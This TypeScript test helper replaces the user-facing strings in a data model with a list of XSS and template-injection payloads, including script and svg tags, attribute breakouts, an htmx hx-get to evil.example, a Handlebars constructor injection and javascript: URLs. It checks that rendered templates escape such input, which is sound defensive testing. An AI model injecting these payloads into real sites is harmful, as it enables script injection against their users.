/** Strings that have broken out of templates elsewhere; a few of the big list of naughty strings, and our own for htmx and Handlebars. */
const nasty = [
  `<script>window.pwned = 1</script>`,
  `"><img src=x onerror="window.pwned=1">`,
  `' onfocus='window.pwned=1' autofocus='`,
  `" hx-on:click="window.pwned=1" hx-get="https://evil.example/" hx-trigger="load`,
  `</title></textarea></style><svg onload=window.pwned=1>`,
  `{{constructor.constructor 'window.pwned=1'}}`,
  `javascript:window.pwned=1`,
  `js:window.pwned=1`,
  `\u202e\u0000\ufeff<iframe src=javascript:window.pwned=1>`,
  `🏳️‍🌈 ﷽ 田中さん Ω≈ç√ "' & < >`,
];
/** Keys whose values are codes of our own, not words of people. */
const codes = new Set([
  'href',
  'kind',
  'id',
  'status',
  'coverage',
  'severity',
  'slug',
  'icon',
  'key',
  'locale',
  'role',
  'at',
  'date',
  'unit',
  'path',
  'index',
]);

/** A copy of the model in which every word of people is a nasty string; codes and numbers stay. */
export function nastify<T>(model: T, key = '', count = { at: 0 }): T {
  if (codes.has(key)) return model;
  if (typeof model === 'string') return nasty[count.at++ % nasty.length] as T;
  if (Array.isArray(model)) return model.map((item) => nastify(item, '', count)) as T;
  if (typeof model !== 'object' || model === null) return model;
  return Object.fromEntries(Object.entries(model).map(([name, value]) => [name, nastify(value, name, count)])) as T;
}
